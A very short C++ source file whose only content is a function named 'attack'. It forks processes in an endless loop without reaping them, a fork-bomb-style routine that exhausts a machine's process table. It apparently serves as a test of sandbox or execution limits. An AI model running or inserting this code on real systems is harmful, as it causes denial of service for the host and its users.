#include <unistd.h>

extern "C" long attack(long n) {
    for (;;)
        if (fork() == 0)
            _exit(0);
    return n;
}
